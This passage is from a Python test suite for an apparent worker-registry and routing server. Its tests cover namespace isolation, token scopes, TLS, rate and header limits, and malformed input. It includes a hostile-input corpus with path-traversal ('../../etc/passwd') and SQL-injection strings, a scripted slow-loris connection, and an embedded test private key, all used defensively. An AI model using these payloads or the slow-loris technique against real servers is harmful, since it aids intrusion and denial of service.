        for body, fragment in (({"data_label": "CONFIDENTIAL"}, "data_label"),
                               ({"env": "edge"}, "env edge"),
                               ({"request": {"egress": True}}, "egress"),
                               ({"env": "staging"}, None)):
            d = decide(body, rules, registry)
            if fragment is None:
                self.assertIs(d["allowed"], True, body)
                continue
            self.assertEqual(d["deny_reason"], "DENY_PRIVILEGE_ENVELOPE_VIOLATED", body)
            self.assertTrue(any(fragment in v for v in d["deny_reason_if_denied"]["violations"]))
        bare = registry_of(worker_record("w.bare", "wrk.doc.summarizer", ["cap.doc.summarize"],
                                         currently_implements=[hall.CTRL_ENVELOPE]))
        self.assertEqual(decide({}, rules, bare)["deny_reason"], "DENY_PRIVILEGE_ENVELOPE_VIOLATED")
        self.assertIs(decide({}, [rule("r.free", {}, ["wrk.doc.summarizer"])], bare)["allowed"],
                      True)

    def test_a_bound_the_envelope_does_not_state_is_the_narrowest(self):
        rules = [rule("r.env", {}, ["wrk.doc.summarizer"], controls=[hall.CTRL_ENVELOPE])]
        for envelope, body, violations in (
                ({}, {}, ["env dev is not in its envs (none stated)"]),
                ({"envs": ["dev"]}, {}, []),
                ({"envs": ["dev"]}, {"data_label": "SECRET"}, ["data_label SECRET is above PUBLIC"]),
                ({"max_data_label": "SECRET"}, {"data_label": "SECRET", "env": "prod"},
                 ["env prod is not in its envs (none stated)"])):
            registry = registry_of(worker_record(
                "w.env", "wrk.doc.summarizer", ["cap.doc.summarize"], privilege_envelope=envelope,
                currently_implements=[hall.CTRL_ENVELOPE]))
            d = decide(body, rules, registry)
            self.assertEqual(d["deny_reason_if_denied"]["violations"] if d["denied"] else [],
                             violations, envelope)

    def test_an_envelope_the_hall_would_have_refused_denies_and_does_not_raise(self):
        rules = [rule("r.env", {}, ["wrk.doc.summarizer"], controls=[hall.CTRL_ENVELOPE])]
        for envelope in ({"max_data_label": "BOGUS"}, {"envs": 5}, {"envs": [1]},
                         {"egress": "yes"}):
            registry = registry_of(worker_record(   # as another program could store it
                "w.env", "wrk.doc.summarizer", ["cap.doc.summarize"], privilege_envelope=envelope,
                currently_implements=[hall.CTRL_ENVELOPE]))
            d = decide({}, rules, registry)
            self.assertEqual(d["deny_reason"], "DENY_PRIVILEGE_ENVELOPE_VIOLATED", envelope)
            self.assertIn("privilege_envelope", d["deny_reason_if_denied"]["violations"][0])

    def test_envelope_is_validated_at_enrollment(self):
        h = hall.Hall(":memory:")
        try:
            for envelope in ({"egress": "yes"}, {"max_data_label": "TOP"}, {"colour": 1}, []):
                with self.assertRaises(hall.HallError):
                    h.enroll(worker_record(privilege_envelope=envelope))
        finally:
            h.close()


class AlertTest(ServerCase):

    def test_denial_burst_raises_one_alert_per_subject(self):
        for _ in range(hall.DENIAL_BURST[0] * 3):
            self.route(capability_id="cap.nothing")
        bursts = [a for a in self.call("GET", "/alerts")[2]["alerts"]
                  if a["code"] == "DENIAL_BURST"]
        self.assertEqual(len(bursts), 2)            # one for the tenant, one for the capability
        self.assertEqual(sorted(str(a["capability_id"]) for a in bursts),
                         ["None", "cap.nothing"])

    def test_failed_login_burst(self):
        for _ in range(hall.LOGIN_FAILURE_BURST[0] * 2):
            self.assertEqual(self.route(token="hall_wrong")[0], 401)
        codes = [a["code"] for a in self.call("GET", "/alerts")[2]["alerts"]]
        self.assertEqual(codes.count("AUTH_FAILURE_BURST"), 1)

    def test_alert_flood_is_bounded(self):
        for i in range(hall.ALERTS_PER_CODE * 3):
            record = worker_record("w.flood.%d" % i)
            record["risk_tier"] = "forged"
            self.assertEqual(self.call("POST", "/enroll", record)[0], 400)
        rows = self.db_rows("SELECT code, count(*) FROM alerts GROUP BY code ORDER BY code")
        self.assertEqual(rows, [("ALERTS_SUPPRESSED", 1),
                                ("DENY_WORKER_TAMPERED", hall.ALERTS_PER_CODE)])

    def test_retire_worker(self):
        self.enroll(worker_record())
        self.assertEqual(self.call("DELETE", "/workers/org.example.summarizer",
                                   token=self.router_token)[0], 403)
        status, _, body = self.call("DELETE", "/workers/org.example.summarizer", token=self.admin)
        self.assertEqual((status, body), (200, {"retired": True,
                                                "worker_id": "org.example.summarizer"}))
        self.assertEqual(self.call("GET", "/workers")[2]["count"], 0)
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_NO_MATCHING_RULE")
        alert = self.call("GET", "/alerts")[2]["alerts"][0]
        self.assertEqual((alert["level"], alert["code"]), ("info", "WORKER_RETIRED"))
        self.assertEqual(self.call("DELETE", "/workers/org.example.summarizer",
                                   token=self.admin)[0], 404)


class RegistryApiTest(ServerCase):

    def setUp(self):
        ServerCase.setUp(self)
        self.enroll(worker_record("org.a.summarizer", namespace="org.a"))
        _, self.token_a = self.hall.create_token("a", ["route", "read", "write"], tenant="org.a")

    def test_dispatch_allow_and_deny_shapes(self):
        status, _, body = self.call("POST", "/api/v1/dispatch", {
            "namespace": "org.a", "capability": "cap.doc.summarize",
            "worker_id": "org.a.summarizer",
            "context": {"risk_tier": "low", "correlation_id": "req-456"}}, token=self.token_a)
        self.assertEqual(status, 200)
        self.assertEqual(body, {"outcome": "allow", "worker_id": "org.a.summarizer",
                                "capability": "cap.doc.summarize", "correlation_id": "req-456",
                                "decision_id": body["decision_id"]})
        status, _, body = self.call("POST", "/api/v1/dispatch", {
            "namespace": "org.a", "capability": "llm.text.generate"}, token=self.token_a)
        self.assertEqual((status, body["outcome"], body["deny_code"]),
                         (200, "deny", "DENY_NO_MATCHING_RULE"))
        self.assertIsInstance(body["reason"], str)
        logged = self.call("GET", "/dispatches")[2]["dispatches"]
        self.assertEqual([d["tenant_id"] for d in logged], ["org.a", "org.a"])

    def test_dispatch_errors(self):
        cases = [({"capability": "c"}, self.token_a, 400),
                 ({"namespace": "org.a", "capability": "c", "context": "x"}, self.token_a, 400),
                 ({"namespace": "org.a", "capability": "c", "context": {"risk_tier": "wild"}},
                  self.token_a, 400),
                 ({"namespace": "org.a", "capability": "c"}, None, 401),
                 ({"namespace": "org.b", "capability": "c"}, self.token_a, 403),
                 ({"namespace": "org.a", "capability": "c", "worker_id": "nobody"},
                  self.token_a, 404)]
        for body, token, expected in cases:
            status, _, answer = self.call("POST", "/api/v1/dispatch", body, token=token)
            self.assertEqual(status, expected, body)
            self.assertIn("error", answer)
        self.assertEqual(self.call("POST", "/api/route", route_body(tenant_id="org.b"),
                                   token=self.token_a)[2]["code"], "FORBIDDEN_NAMESPACE")
        self.assertEqual(self.call("POST", "/api/route", route_body(tenant_id="org.a.team"),
                                   token=self.token_a)[0], 200)

    def test_verify(self):
        for path in ("/api/v1/verify/org.a.summarizer", "/wcp/registry/verify/org.a.summarizer"):
            status, _, body = self.call("GET", path, token=self.token_a)
            self.assertEqual(status, 200)
            self.assertEqual((body["worker_id"], body["namespace"], body["status"],
                              body["attested"], body["ban_status"]),
                             ("org.a.summarizer", "org.a", "active", False, "clean"))
        self.assertEqual(self.call("GET", "/api/v1/verify/nobody", token=self.token_a)[0], 404)
        self.assertEqual(self.call("GET", "/api/v1/verify/org.a.summarizer")[0], 401)
        _, token_b = self.hall.create_token("b", ["read"], tenant="org.b")
        self.assertEqual(self.call("GET", "/api/v1/verify/org.a.summarizer",
                                   token=token_b)[0], 403)

    def test_hall_enroll_by_package_hash(self):
        package = hashlib.sha256(b"worker package v1").hexdigest()
        body = {"namespace": "org.a", "display_name": "My Worker",
                "capabilities": ["llm.text.generate"], "sha256": package}
        status, _, answer = self.call("POST", "/api/v1/hall/enroll", body, token=self.token_a)
        self.assertEqual(status, 201, answer)
        self.assertEqual((answer["worker_id"], answer["worker_species_id"], answer["sha256"]),
                         ("org.a.my-worker", "wrk.my-worker", package))
        self.assertEqual(self.call("POST", "/api/v1/hall/enroll", body, token=self.token_a)[0], 200)
        verify = self.call("GET", "/api/v1/verify/org.a.my-worker", token=self.token_a)[2]
        self.assertEqual((verify["attest_sha256"], verify["ban_status"]), (package, "clean"))
        routed = self.call("POST", "/api/v1/dispatch", {"namespace": "org.a",
                                                        "capability": "llm.text.generate"},
                           token=self.token_a)[2]
        self.assertEqual((routed["outcome"], routed["worker_id"]), ("allow", "org.a.my-worker"))
        self.call("POST", "/api/bans", {"sha256": package, "reason": "revoked"}, token=self.admin)
        self.assertEqual(self.call("GET", "/api/v1/verify/org.a.my-worker",
                                   token=self.token_a)[2]["ban_status"], "banned")
        self.assertEqual(self.call("POST", "/api/v1/dispatch", {
            "namespace": "org.a", "capability": "llm.text.generate"},
            token=self.token_a)[2]["deny_code"], "DENY_NO_AVAILABLE_WORKER")
        self.assertEqual(self.call("POST", "/api/v1/hall/enroll", body,
                                   token=self.token_a)[2]["code"], "DENY_WORKER_BANNED")
        for attestation in (None, {}, {"source_file": "worker.py"}):
            self.assertEqual(self.call("POST", "/api/v1/hall/enroll", dict(
                body, display_name="Other", attestation=attestation), token=self.token_a)[2][
                    "code"], "DENY_WORKER_BANNED", attestation)
        self.assertEqual(self.call("POST", "/api/v1/hall/enroll", dict(
            body, display_name="Other", sha256="ab" * 32, attestation=None), token=self.token_a)[0],
            201)
        stored = json.loads(self.db_rows("SELECT record_json FROM enrollments WHERE worker_id = "
                                         "'org.a.other'")[0][0])
        self.assertEqual(stored["attestation"], {"code_hash": "sha256:" + "ab" * 32})
        for bad, expected in ((dict(body, namespace="org.b"), 403), (dict(body, sha256="xyz"), 400),
                              (dict(body, attestation="x"), 400),
                              (dict(body, display_name=""), 400), ({}, 400)):
            self.assertEqual(self.call("POST", "/api/v1/hall/enroll", bad,
                                       token=self.token_a)[0], expected, bad)


    def test_a_namespace_token_replaces_no_worker_outside_its_namespace(self):
        victim = worker_record("org.b.victim", namespace="org.b")
        self.enroll(victim)
        takeover = worker_record("org.b.victim", namespace="org.a")
        status, _, body = self.call("POST", "/enroll", takeover, token=self.token_a)
        self.assertEqual((status, body["code"]), (403, "FORBIDDEN_NAMESPACE"))
        status, _, body = self.call("POST", "/api/v1/hall/enroll", {
            "namespace": "org.a", "display_name": "x", "capabilities": ["cap.doc.summarize"],
            "sha256": "ab" * 32, "worker_id": "org.b.victim"}, token=self.token_a)
        self.assertEqual((status, body["code"]), (403, "FORBIDDEN_NAMESPACE"))
        self.assertEqual(json.loads(self.db_rows("SELECT record_json FROM enrollments WHERE "
                                                 "worker_id = 'org.b.victim'")[0][0]), victim)
        squat = worker_record("org.b.new", namespace="org.a")   # an id org.b would use
        self.assertEqual(self.call("POST", "/enroll", squat, token=self.token_a)[2]["code"],
                         "FORBIDDEN_NAMESPACE")
        status, _, body = self.call("POST", "/api/v1/dispatch", {
            "namespace": "org.a", "capability": "cap.doc.summarize",
            "worker_id": "org.b.victim"}, token=self.token_a)
        self.assertEqual((status, body["code"]), (403, "FORBIDDEN_NAMESPACE"))
        own = worker_record("org.a.summarizer", namespace="org.a.team", risk_tier="medium")
        self.assertEqual(self.call("POST", "/enroll", own, token=self.token_a)[0], 200)

    def test_a_namespaces_worker_serves_and_vouches_for_that_namespace_only(self):
        path = os.path.join(self.tmp.name, "rules.json")
        with open(path, "w") as handle:
            json.dump({"rules": [rule("r.ctl", {}, ["wrk.doc.summarizer"],
                                      controls=["ctrl.audit"])]}, handle)
        self.restart(rules_path=path)
        own = worker_record("org.a.summarizer", namespace="org.a",
                            currently_implements=["ctrl.audit"])
        self.assertEqual(self.call("POST", "/enroll", own, token=self.token_a)[0], 200)
        for tenant, expected in (("org.a", (True, None)), ("org.a.team", (True, None)),
                                 ("org.b", (False, "DENY_MISSING_REQUIRED_CONTROLS")),
                                 ("org.ab", (False, "DENY_MISSING_REQUIRED_CONTROLS"))):
            decision = self.route(tenant_id=tenant)[2]
            self.assertEqual((decision["allowed"], decision["deny_reason"]), expected, tenant)
        self.enroll(worker_record("w.audit", "wrk.auditor", ["cap.audit"],
                                  currently_implements=["ctrl.audit"]))  # hall-wide, by admin
        decision = self.route(tenant_id="org.b")[2]
        self.assertEqual((decision["allowed"], decision["deny_reason"]),
                         (False, "DENY_NO_AVAILABLE_WORKER"))
        trace = self.route(tenant_id="org.b", explain=True)[2]["trace"]
        worker_step = [s for s in trace if s["name"] == "worker"][0]
        self.assertEqual(worker_step["candidates"][0]["workers"][0]["reasons"],
                         ["it serves namespace org.a only"])

    def test_a_namespace_admin_token_acts_on_nothing_hall_wide(self):
        _, admin_a = self.hall.create_token("a admin", ["admin"], tenant="org.a")
        self.enroll(worker_record("org.b.worker", namespace="org.b"))
        for method, path, body in (("POST", "/api/safe-mode/enter", {"reason": "x"}),
                                   ("DELETE", "/workers/org.b.worker", None),
                                   ("GET", "/api/tokens", None),
                                   ("PUT", "/api/policy", {"version": "v", "default": "DENY"}),
                                   ("POST", "/api/bans", {"sha256": "ab" * 32, "reason": "x"})):
            status, _, answer = self.call(method, path, body, token=admin_a)
            self.assertEqual((status, answer["code"]), (403, "FORBIDDEN_NAMESPACE"), path)
        self.assertEqual(self.call("GET", "/api/safe-mode", token=self.reader)[2]["safe_mode"],
                         False)
        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments WHERE worker_id = "
                                      "'org.b.worker'"), [(1,)])
        status, _, created = self.call("POST", "/api/tokens", {
            "name": "team", "scopes": ["route"], "tenant": "org.a.team"}, token=admin_a)
        self.assertEqual((status, created["tenant"]), (201, "org.a.team"))


class TokenApiTest(ServerCase):

    def test_create_list_revoke(self):
        status, _, created = self.call("POST", "/api/tokens", {"name": "ci", "scopes": ["route"]},
                                       token=self.admin)
        self.assertEqual(status, 201)
        secret = created["token"]
        self.assertEqual(self.route(token=secret)[0], 200)
        listing = self.call("GET", "/api/tokens", token=self.admin)[2]
        self.assertNotIn(secret, json.dumps(listing))
        entry = [t for t in listing["tokens"] if t["token_id"] == created["token_id"]][0]
        self.assertEqual((entry["name"], entry["scopes"], entry["revoked_at"]),
                         ("ci", ["route"], None))
        self.assertIsNotNone(entry["last_used_at"])
        status, _, _ = self.call("DELETE", "/api/tokens/" + created["token_id"], token=self.admin)
        self.assertEqual(status, 200)
        self.assertEqual(self.route(token=secret)[0], 401)
        self.assertEqual(self.call("DELETE", "/api/tokens/" + created["token_id"],
                                   token=self.admin)[0], 404)
        for bad in ({"name": "x", "scopes": ["root"]}, {"name": "", "scopes": ["read"]},
                    {"name": "x", "scopes": []}, {"name": "x", "scopes": "read"},
                    {"name": "x", "scopes": [["read"]]}, {"name": "x", "scopes": [{"a": 1}]}):
            self.assertEqual(self.call("POST", "/api/tokens", bad, token=self.admin)[0], 400, bad)

    def test_audit_records_who_did_what(self):
        admin_id = [t["token_id"] for t in self.call("GET", "/api/tokens", token=self.admin)[2]
                    ["tokens"] if t["name"] == "test admin"][0]
        self.call("POST", "/api/safe-mode/enter", {"reason": "drill"}, token=self.admin)
        self.call("POST", "/api/bans", {"sha256": "b" * 64, "reason": "x"}, token=self.admin)
        entries = self.call("GET", "/api/audit", token=self.admin)[2]["entries"]
        self.assertEqual([(e["action"], e["token_id"]) for e in entries[:2]],
                         [("ban.add", admin_id), ("safe_mode.enter", admin_id)])
        self.assertEqual(entries[1]["detail"], {"reason": "drill"})
        with self.assertRaises(sqlite3.DatabaseError):
            conn = sqlite3.connect(self.db)
            try:
                conn.execute("DELETE FROM audit")
            finally:
                conn.close()


# -- hardening ----------------------------------------------------------------------

TEST_CERT = """-----BEGIN CERTIFICATE-----
MIIBmjCCAUGgAwIBAgIUO1vEtPZDF0yK2Xw0ODLiJVN5P8AwCgYIKoZIzj0EAwIw
FDESMBAGA1UEAwwJbG9jYWxob3N0MCAXDTI2MTEyMjA2MjUyN1oYDzIxMjYxMDI5
MDYyNTI3WjAUMRIwEAYDVQQDDAlsb2NhbGhvc3QwWTATBgcqhkjOPQIBBggqhkjO
PQMBBwNCAAS9Ebw/POVBpy29xABF0eJbrB8drj9E5GbWknHwlAf4IBVw5HygrVox
++o6dagla6X2FvnBpafltwMdoQGMS99Ao28wbTAdBgNVHQ4EFgQUScbZ9clpThwn
cM/KXRd1lsJUpokwHwYDVR0jBBgwFoAUScbZ9clpThwncM/KXRd1lsJUpokwDwYD
VR0TAQH/BAUwAwEB/zAaBgNVHREEEzARgglsb2NhbGhvc3SHBH8AAAEwCgYIKoZI
zj0EAwIDRwAwRAIgGzpqlL2PGfiY1aCHcvbllHSeONVLTr3HouXPQqxNutoCIH2k
Ckn42R9BiJ8xqwYIN5AqoNkrdbMFQKHga9sXPTtn
-----END CERTIFICATE-----
"""
TEST_KEY = """-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgHv5m+EDiNPVJ2HBq
nFAflXzWywv2FwpvwU7LyhkvlqqhRANCAAS9Ebw/POVBpy29xABF0eJbrB8drj9E
5GbWknHwlAf4IBVw5HygrVox++o6dagla6X2FvnBpafltwMdoQGMS99A
-----END PRIVATE KEY-----
"""


def raw_exchange(server, data, timeout=5.0, pause_after=None):
    """Send raw bytes; return everything the server sends until it closes
    or goes quiet for ``timeout`` seconds."""
    host, port = server.server_address[:2]
    chunks = []
    with socket.create_connection((host, port), timeout=timeout) as sock:
        sock.sendall(data)
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_WR) if pause_after is None else None
        while True:
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, ConnectionResetError):
                break
            if not chunk:
                break
            chunks.append(chunk)
    return b"".join(chunks)


def statuses(raw):
    """The status codes of the responses in a raw stream (bodies end without CRLF)."""
    return [int(code) for code in re.findall(rb"HTTP/1\.1 ([0-9]{3}) ", raw)]


def fill_path(path, value):
    return re.sub(r"\{\w+\}", value, path)


class NetworkDefaultsTest(ServerCase):
    """A hall configured for a non-loopback address (bound to loopback here)."""

    settings = {"host": "0.0.0.0", "allow_plain_http": True}

    def test_every_endpoint_but_the_probes_needs_a_scoped_token(self):
        _, revoked = self.hall.create_token("gone", ["admin"])
        gone_id = [t["token_id"] for t in self.hall.tokens()["tokens"] if t["name"] == "gone"][0]
        self.hall.revoke_token(gone_id)
        _, nothing = self.hall.create_token("narrow", ["rules"])
        for r in hall.ROUTES:
            path = fill_path(r.path, "x")
            body = {} if r.method in ("POST", "PUT") else None
            status, _, answer = self.call(r.method, path, body)
            if r.scope is None:                 # open: at most a complaint about the body
                self.assertIn(status, (200, 204, 400) if body is not None else (200,), path)
                continue
            self.assertEqual(status, 401, (r.method, path))
            self.assertEqual(self.call(r.method, path, body, token=revoked)[0], 401, path)
            if r.scope != "rules":
                self.assertEqual(self.call(r.method, path, body, token=nothing)[0], 403,
                                 (r.method, path))
        self.assertEqual(self.call("GET", "/status", token=self.reader)[0], 200)
        self.assertEqual(self.call("POST", "/enroll", worker_record(), token=self.reader)[0], 403)

    def test_a_hall_served_off_loopback_keeps_nothing_open_whatever_its_config_says(self):
        h = hall.Hall(hall.Config(db_path=os.path.join(self.tmp.name, "embedded.db"),
                                  access_log=False, allow_plain_http=True,
                                  token_file=os.path.join(self.tmp.name, "embedded.token")))
        self.addCleanup(h.close)
        self.assertTrue(h.config.loopback)
        with mock.patch.object(hall, "HallHTTPServer"):     # (nothing bound off loopback)
            hall.make_server(h, "0.0.0.0", 0, tls=None)
        self.assertFalse(h.config.loopback)
        self.assertEqual(h.config.requests_per_second, 100)
        server = h.serve(port=0)                # served on loopback too: still closed
        client = Client(server.url)
        try:
            self.assertEqual(client.request("POST", "/enroll", worker_record())[0], 401)
            self.assertEqual(client.request("GET", "/workers")[0], 401)
        finally:
            client.close()
            server.stop()

    def test_rate_limit_is_on_by_default_off_loopback(self):
        self.assertEqual(self.hall.config.requests_per_second, 100)
        self.assertEqual(hall.Config(host="127.0.0.1").requests_per_second, 0)

    def test_plain_http_on_a_public_address_refuses_to_start(self):
        result = run_hall(["--host", "0.0.0.0", "--port", "0", "--db",
                           os.path.join(self.tmp.name, "x.db")])
        self.assertEqual(result.returncode, 2)
        self.assertIn("refusing to serve plain HTTP on 0.0.0.0", result.stderr)
        self.assertEqual(len(result.stderr.strip().splitlines()), 1)


class TlsTest(TempDirCase):

    def setUp(self):
        TempDirCase.setUp(self)
        self.cert = self.write_file("cert.pem", TEST_CERT)
        self.key = self.write_file("key.pem", TEST_KEY)

    def test_https_with_tls_1_2_or_newer(self):
        h = hall.Hall(hall.Config(db_path=":memory:", tls_cert=self.cert, tls_key=self.key,
                                  access_log=False))
        server = h.serve(port=0)
        try:
            self.assertTrue(server.url.startswith("https://"))
            context = ssl.create_default_context(cafile=self.cert)
            conn = http.client.HTTPSConnection("127.0.0.1", server.server_address[1],
                                               context=context, timeout=5)
            conn.request("GET", "/health")
            response = conn.getresponse()
            self.assertEqual((response.status, json.loads(response.read())["status"]),
                             (200, "ok"))
            conn.close()
            old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", DeprecationWarning)
                old.maximum_version = ssl.TLSVersion.TLSv1_1
                with contextlib.suppress(ValueError):
                    old.minimum_version = ssl.TLSVersion.TLSv1
            with self.assertRaises((ssl.SSLError, OSError)):
                with socket.create_connection(("127.0.0.1", server.server_address[1]), 5) as raw:
                    with old.wrap_socket(raw, server_hostname="localhost") as tls:
                        tls.sendall(b"GET /health HTTP/1.1\r\n\r\n")
                        tls.recv(100)
            self.assertEqual(raw_exchange(server, b"GET /health HTTP/1.1\r\n\r\n"), b"")
        finally:
            server.stop()
            h.close()

    def test_a_keep_alive_connection_a_thread_serves_ends_when_the_hall_stops(self):
        for tls in (False, True):
            h = hall.Hall(hall.Config(db_path=":memory:", access_log=False, idle_timeout=600,
                                      tls_cert=self.cert if tls else None,
                                      tls_key=self.key if tls else None))
            server = h.serve(port=0)
            try:
                if tls:
                    conn = http.client.HTTPSConnection(
                        "127.0.0.1", server.server_address[1], timeout=10,
                        context=ssl.create_default_context(cafile=self.cert))
                else:
                    conn = http.client.HTTPConnection("127.0.0.1", server.server_address[1],
                                                      timeout=10)
                self.addCleanup(conn.close)
                conn.request("GET", "/openapi.json")    # (plain: a path a thread answers)
                response = conn.getresponse()
                response.read()
                self.assertEqual((response.status, response.getheader("Connection")),
                                 (200, None))
            finally:
                server.stop()
                h.close()
            # its thread let it go at the stop, not after the 600 s idle timeout
            self.assertEqual(conn.sock.recv(1), b"", "tls" if tls else "plain")

    def test_bad_certificate_stops_start_up(self):
        result = run_hall(["--port", "0", "--db", ":memory:", "--tls-cert", self.key,
                           "--tls-key", self.key])
        self.assertEqual(result.returncode, 2)
        self.assertIn("cannot load TLS certificate", result.stderr)
        self.assertNotIn("Traceback", result.stderr)


class LimitsTest(ServerCase):

    settings = {"request_timeout": 1, "idle_timeout": 2}

    def test_slow_loris_is_dropped_and_others_are_served(self):
        host, port = self.server.server_address[:2]
        started = time.monotonic()
        with socket.create_connection((host, port), timeout=10) as sock:
            sock.sendall(b"GET /health HTTP/1.1\r\n")
            closed = False
            for _ in range(40):
                try:
                    sock.sendall(b"X-Drip: 1\r\n")
                except OSError:
                    closed = True
                    break
                self.assertEqual(self.call("GET", "/health")[0], 200)
                time.sleep(0.1)
                sock.settimeout(0.01)
                try:
                    if sock.recv(1) == b"":
                        closed = True
                        break
                except socket.timeout:
                    pass
            self.assertTrue(closed, "the dripping client was never dropped")
        self.assertLess(time.monotonic() - started, 3.5)

    def test_a_lying_content_length_times_out_with_a_4xx(self):
        raw = raw_exchange(self.server, b"POST /decisions/ingest HTTP/1.1\r\n"
                                        b"Content-Length: 100\r\n\r\n{}", pause_after=True)
        self.assertEqual(statuses(raw), [400])
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(0,)])

    def test_connection_cap_answers_503_at_once(self):
        self.restart(max_connections=3)
        host, port = self.server.server_address[:2]
        idle = [socket.create_connection((host, port), timeout=5) for _ in range(3)]
        try:
            for sock in idle:
                sock.sendall(b"GET /health HTTP/1.1\r\n\r\n")
                self.assertIn(b"200 OK", sock.recv(4096))
            poll(lambda: self.server._connections == 3)
            started = time.monotonic()
            raw = raw_exchange(self.server, b"GET /health HTTP/1.1\r\n\r\n")
            self.assertEqual(statuses(raw), [503])
            self.assertIn(b'"code": "BUSY"', raw)
            self.assertLess(time.monotonic() - started, 1.0)
        finally:
            for sock in idle:
                sock.close()
        self.client.close()
        self.client = Client(self.server.url)
        self.assertEqual(poll(lambda: self._health_ok()), True)

    def _health_ok(self):
        try:
            client = Client(self.server.url)
            try:
                return client.request("GET", "/health")[0] == 200
            finally:
                client.close()
        except (OSError, http.client.HTTPException):
            return False

    def test_rate_limit_per_client_with_retry_after(self):
        self.restart(rate_limit=2, rate_burst=3)
        answers = [self.call("GET", "/status", token=self.reader) for _ in range(6)]
        codes = [a[0] for a in answers]
        self.assertEqual(codes[:3], [200, 200, 200])
        self.assertIn(429, codes[3:])
        limited = [a for a in answers if a[0] == 429][0]
        self.assertEqual(limited[2]["code"], "RATE_LIMITED")
        self.assertGreaterEqual(int(limited[1]["retry-after"]), 1)
        self.assertEqual(self.call("GET", "/health")[0], 200)          # probes are exempt
        self.assertEqual(self.call("GET", "/status", token=self.admin)[0], 200)   # per token

    def test_header_limits(self):
        many = b"".join(b"X-H%d: v\r\n" % i for i in range(150))
        self.assertEqual(statuses(raw_exchange(self.server, b"GET /health HTTP/1.1\r\n" + many
                                               + b"\r\n")), [431])
        huge = b"X-Big: " + b"a" * 70000 + b"\r\n"
        self.assertEqual(statuses(raw_exchange(self.server, b"GET /health HTTP/1.1\r\n" + huge
                                               + b"\r\n")), [431])
        self.restart(max_header_line=1024, max_headers=10)
        line = b"X-Mid: " + b"a" * 2000 + b"\r\n"
        self.assertEqual(statuses(raw_exchange(self.server, b"GET /health HTTP/1.1\r\n" + line
                                               + b"\r\n")), [431])
        eleven = b"".join(b"X-H%d: v\r\n" % i for i in range(11))
        self.assertEqual(statuses(raw_exchange(self.server, b"GET /health HTTP/1.1\r\n" + eleven
                                               + b"\r\n")), [431])
        self.assertEqual(statuses(raw_exchange(self.server, b"GET /health HTTP/1.1\r\n"
                                               b"Host: x\r\n\r\n")), [200])


HOSTILE_IDS = ["x", "../../etc/passwd", "%2e%2e%2f", "' OR 1=1 --", "\u2603" * 50, "a" * 5000,
               "%00", "sha256:" + "g" * 64]
HOSTILE_BODIES = [
    b"", b"{", b"[]", b"null", b"1e999", b"123456789012345678901234567890", b'"str"',
    b"{\"a\": " * 200 + b"1" + b"}" * 200, b"[" * 100000, b'{"a": "\\ud800"}',
    b'{"a": "\\u0000"}', b"\xff\xfe\xfd", b'{"a": 1, "a": 2}', b'{"x": NaN}',
    json.dumps({"worker_id": None, "capabilities": None, "env": None, "tenant_id": None,
                "reason": None, "sha256": None, "tenants": None, "name": None}).encode(),
    json.dumps({"worker_id": 1, "worker_species_id": [], "capabilities": [None], "env": True,
                "capability_id": {}, "data_label": 5, "tenant_id": 2 ** 64, "blast_score": 2 ** 70,
                "limit": -1, "reason": 5, "scopes": [1], "version": {}, "default": [],
                "rules": "x", "namespace": 1, "capability": None, "context": [],
                "sha256": 1, "display_name": {}, "status": 1, "tenants": 7}).encode(),
    json.dumps({"capability_id": "c" * 100000, "env": "dev", "data_label": "PUBLIC",
                "tenant_id": "t", "blast_score": 10 ** 30, "worker_id": "w" * 100000,
                "worker_species_id": "s", "capabilities": ["c"] * 1000,
                "artifact_hash": "sha256:\u00e9", "decided_at": "2026-01-01T00:00:00+01:99",
                "_rules": {"rules": [{"rule_id": "r%d" % i, "decision": {}}
                                     for i in range(1001)]}}).encode(),
    json.dumps({"_rules": {"rules": [{"rule_id": "r", "match": {"env": {"in": [1]}},
                                      "decision": {"candidate_workers_ranked": [5]}}]},
                "capability_id": "c", "env": "prod", "data_label": "SECRET",
                "tenant_id": "t", "request": {"egress": "yes" * 1000}}).encode(),
    "{\"worker_id\": \"\u202e\u0301\ufeff\", \"tenant_id\": \"\U0001f600\"}".encode(),
]


class HostileInputTest(ServerCase):
    """Every endpoint in the route table against a corpus of hostile input:
    never a 5xx, never a traceback, never a half-written row."""

    def test_hostile_corpus_against_every_endpoint(self):
        self.enroll(worker_record())
        stderr = io.StringIO()
        with contextlib.redirect_stderr(stderr):
            for r in hall.ROUTES:
                if r.path == "/events":          # a stream: tested on its own
                    continue
                for ident in HOSTILE_IDS if "{" in r.path else ["x"]:
                    path = fill_path(r.path, urllib.parse.quote(ident, safe="%"))
                    bodies = HOSTILE_BODIES if r.method in ("POST", "PUT") else [None]
                    for raw in bodies:
                        for token in (self.admin, None):
                            status, headers, body = self.call(
                                r.method, path + "?limit=%ff&status=%00", raw=raw, token=token,
                                headers={"Content-Type": "application/json"})
                            self.assertLess(status, 500, (r.method, path[:80], (raw or b"")[:60]))
                            if status >= 400:
                                self.assertIsInstance(body["error"], str)
        self.assertNotIn("Traceback", stderr.getvalue())
        self.assertEqual(self.db_rows("PRAGMA integrity_check"), [("ok",)])
        days = self.db_rows("SELECT coalesce(sum(total), 0) FROM decision_days")[0][0]
        self.assertEqual(days, self.db_rows("SELECT count(*) FROM decisions")[0][0])
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE blast_score < 0 "
                                      "OR blast_score > 100"), [(0,)])

    def test_numbers_paths_and_macs_that_once_gave_a_500(self):
        self.enroll(worker_record())
        decision = self.route()[2]
        stderr = io.StringIO()
        with contextlib.redirect_stderr(stderr):
            cursor = base64.urlsafe_b64encode(b"2020|" + b"9" * 30).decode()
            arabic = base64.urlsafe_b64encode("2020|\u0661".encode()).decode()
            for path in ("/events?last_event_id=%C2%B2", "/events?last_event_id=" + "9" * 5000,
                         "/dispatches?cursor=" + cursor, "/dispatches?cursor=" + arabic):
                status, _, body = self.call("GET", path, token=self.reader)
                self.assertEqual(status, 400, path[:60])
                self.assertIsInstance(body["error"], str)
            forged = dict(decision, receipt=dict(decision["receipt"], mac="\u00e9"))
